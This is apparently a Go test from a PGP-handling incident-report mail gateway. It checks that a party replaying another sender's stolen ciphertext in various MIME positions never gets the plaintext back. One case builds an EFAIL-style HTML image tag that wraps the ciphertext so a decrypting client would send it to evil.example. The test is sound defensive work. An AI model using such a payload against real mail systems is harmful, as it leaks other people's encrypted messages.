package mailgw

import (
	"bytes"
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"

	"iodefgw/mailgw/message"
	"iodefgw/mailgw/pgp"
	"iodefgw/store"
)

// TestCase_61_StolenCiphertextDoesNotComeBack: a party that has got hold of a
// mail of another to the gateway puts its ciphertext into a report of its own,
// in every place that a part can stand, and waits for what it is told. Nothing
// of the text comes back, not even where an operator releases the report.
func TestCase_61_StolenCiphertextDoesNotComeBack(t *testing.T) {
	b := newBench(t, examples+"/parties.toml", auto, "cert-u", "org-v")
	public, err := b.gateway.Secret.Public()
	b.check(err)
	const canary = "the-password-is-Xyzzy"
	secret := strings.Replace(string(document(t)), "CERT-U", canary, 1)
	stolen := b.bytes(letter{from: "cert@example.co.jp", text: canary + "\n", document: []byte(secret), signer: b.keys["cert-u"]})
	head, sealed := b.sealed(stolen, public)
	own := document(t, "cert.example.co.jp", "org-v.example", "cert@example.co.jp", "ir@org-v.example")
	armor := string(message.Parse(append([]byte(head), sealed...)).Root.Children[1].Body)
	quoted := "> " + strings.ReplaceAll(armor, "\r\n", "\r\n> ")
	part := func(typ, body string) []byte { return []byte("Content-Type: " + typ + "\r\n\r\n" + body) }
	for name, build := range map[string]func(own []byte) []byte{
		"a part": func(own []byte) []byte {
			return message.Multipart("mixed", "", b.entity("conditions: forward-log-as-is\n", own), sealed)
		},
		"a forwarded mail": func(own []byte) []byte {
			return message.Multipart("mixed", "", b.entity("conditions: forward-log-as-is\n", own), part("message/rfc822", head+string(sealed)))
		},
		"a file": func(own []byte) []byte {
			return message.Multipart("mixed", "", b.entity("conditions: forward-log-as-is\n", own), part("application/octet-stream; name=a.asc", armor))
		},
		"the text": func(own []byte) []byte {
			return message.Multipart("mixed", "", part("text/plain", "conditions: forward-log-as-is\r\n"+armor), b.entity("x\n", own))
		},
		"quoted text": func(own []byte) []byte {
			return message.Multipart("mixed", "", part("text/plain", "conditions: forward-log-as-is\r\n"+quoted), b.entity("x\n", own))
		},
		"the document": func(own []byte) []byte {
			return b.entity("conditions: forward-log-as-is\n", bytes.Replace(own, []byte("Nov 20 12:14:07"), []byte(armor+"\nNov 20 12:14:07"), 1))
		},
		"between two halves": func(own []byte) []byte {
			return message.Multipart("mixed", "", part("text/html", "<img src=\"http://evil.example/"), sealed, part("text/html", "\">"), b.entity("x\n", own))
		},
	} {
		for _, encrypt := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s, encrypted %v", name, encrypt), func(t *testing.T) {
				b.uid++
				entity := build(bytes.Replace(own, []byte(">4711<"), fmt.Appendf(nil, ">%d<", b.uid), 1))
				var to *pgp.Key
				if encrypt {
					to = public
				}
				raw, err := pgp.Seal(b.header("ir@org-v.example"), entity, b.keys["org-v"], to, b.now, b.random)
				b.check(err)
				if b.take(raw) == Held {
					b.check(b.store.Release(context.Background(), b.last().ID, "alice", "test"))
					b.check(b.gateway.Sweep(context.Background()))
				}
				if m := b.last(); m.State != store.MailAccepted {
					t.Fatalf("the mail is %s for %v", m.State, m.Reasons)
				}
			})
		}
	}
	for _, d := range b.deliveries("isp-r") {
		b.acknowledge(d) // now it gets the log too
	}
	all := b.deliveries("")
	for _, d := range all {
		if strings.Contains(plain(d), canary) || bytes.Contains(d.Bytes, []byte(canary)) {
			t.Errorf("%s to %s carries the stolen text", d.Kind, d.Party)
		}
	}
	if !slices.ContainsFunc(all, func(d store.Delivery) bool { return d.Party == "isp-r" && d.Stage == "acknowledged" }) {
		t.Errorf("nobody was told more than at first: %v", kinds(all))
	}
	b.fsck()
}

// header is an ordinary header of a mail to the gateway.
func (b *bench) header(from string) message.OutHeader {
	b.t.Helper()
	h := message.OutHeader{Date: b.now}
	var errs [4]error
	h.From, errs[0] = message.NewAddr(from)
	h.To, errs[1] = message.NewAddr("ir@gw.example.org")
	h.Subject, errs[2] = message.NewText("report")
	h.MessageID, errs[3] = message.NewToken(fmt.Sprintf("<%d@test.example>", b.uid))
	for _, err := range errs {
		b.check(err)
	}
	return h
}

func (b *bench) entity(text string, document []byte) []byte {
	b.t.Helper()
	e, err := message.Entity(text, message.Attachment{Type: "application/xml", Filename: "report.xml", Data: string(document)})
	b.check(err)
	return e
}

// sealed encrypts what a mail holds to a key, as its sender did; the header of
// the mail and the encrypted entity.
func (b *bench) sealed(mail []byte, to *pgp.Key) (head string, entity []byte) {
	b.t.Helper()
	inside := message.Parse(mail).Root.Children[0].Raw
	raw, err := pgp.Seal(b.header("cert@example.co.jp"), inside, b.keys["cert-u"], to, b.now, b.random)
	b.check(err)
	at := bytes.Index(raw, []byte("Content-Type:"))
	return string(raw[:at]), raw[at:]
}
